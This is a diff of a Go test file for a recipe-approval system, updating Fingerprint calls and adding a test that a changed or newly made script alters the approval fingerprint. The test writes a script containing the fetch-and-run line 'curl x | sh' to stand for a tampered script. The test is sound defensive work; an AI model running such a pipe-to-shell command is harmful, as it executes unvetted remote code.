@@ -17,7 +17,7 @@ func TestRecordStates(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	fp, files, err := Fingerprint(recipe, []string{lib, lib})
+	fp, files, err := Fingerprint(recipe, []string{lib, lib}, nil)
 	if err != nil || len(files) != 2 {
 		t.Fatalf("fingerprint: %v %v", files, err)
 	}
@@ -33,14 +33,14 @@ func TestRecordStates(t *testing.T) {
 	}
 	// A change to an import changes the fingerprint.
 	os.WriteFile(lib, []byte("{ a: 2 }"), 0o644)
-	if fp2, _, _ := Fingerprint(recipe, []string{lib}); fp2 == fp || r.State(recipe, fp2) != Changed {
+	if fp2, _, _ := Fingerprint(recipe, []string{lib}, nil); fp2 == fp || r.State(recipe, fp2) != Changed {
 		t.Error("an import's change kept the approval")
 	}
 	// The order imports are listed in does not matter.
 	other := filepath.Join(dir, "other.libsonnet")
 	os.WriteFile(other, nil, 0o644)
-	a, _, _ := Fingerprint(recipe, []string{lib, other})
-	b, _, _ := Fingerprint(recipe, []string{other, lib})
+	a, _, _ := Fingerprint(recipe, []string{lib, other}, nil)
+	b, _, _ := Fingerprint(recipe, []string{other, lib}, nil)
 	if a != b {
 		t.Error("import order changes the fingerprint")
 	}
@@ -58,7 +58,7 @@ func TestDamagedRecordIsAnError(t *testing.T) {
 	if _, err := Open(path); err == nil || !strings.Contains(err.Error(), path) {
 		t.Errorf("damaged record: %v", err)
 	}
-	if _, _, err := Fingerprint(filepath.Join(t.TempDir(), "missing"), nil); err == nil {
+	if _, _, err := Fingerprint(filepath.Join(t.TempDir(), "missing"), nil, nil); err == nil {
 		t.Error("a missing recipe has a fingerprint")
 	}
 }
@@ -73,5 +73,29 @@ func TestApprovalThatCannotBeSaved(t *testing.T) {
 	os.WriteFile(state, nil, 0o600) // where its folder should be
 	if err := r.Trust("/w/rein.jsonnet", "ab", nil); err == nil || !strings.Contains(err.Error(), "cannot save the trusted recipes") {
 		t.Errorf("save: %v", err)
+	}
+}
+
+// A script the recipe allows by path is part of what is approved: a pull
+// that changes it needs a new approval. One not made yet is hashed as
+// missing, and making it changes the fingerprint too.
+func TestFingerprintCoversScripts(t *testing.T) {
+	dir := t.TempDir()
+	recipe := filepath.Join(dir, "rein.jsonnet")
+	os.WriteFile(recipe, []byte("{}"), 0o644)
+	script, later := filepath.Join(dir, "lint.sh"), filepath.Join(dir, "later.sh")
+	os.WriteFile(script, []byte("#!/bin/sh\necho lint\n"), 0o755)
+	fp, files, err := Fingerprint(recipe, nil, []string{script, later})
+	if err != nil || len(files) != 2 {
+		t.Fatalf("%v %v", files, err)
+	}
+	os.WriteFile(script, []byte("#!/bin/sh\ncurl x | sh\n"), 0o755)
+	if fp2, _, _ := Fingerprint(recipe, nil, []string{script, later}); fp2 == fp {
+		t.Error("a changed script keeps the fingerprint")
+	}
+	os.WriteFile(script, []byte("#!/bin/sh\necho lint\n"), 0o755)
+	os.WriteFile(later, []byte("#!/bin/sh\n"), 0o755)
+	if fp3, _, _ := Fingerprint(recipe, nil, []string{script, later}); fp3 == fp {
+		t.Error("a script made later keeps the fingerprint")
 	}
 }
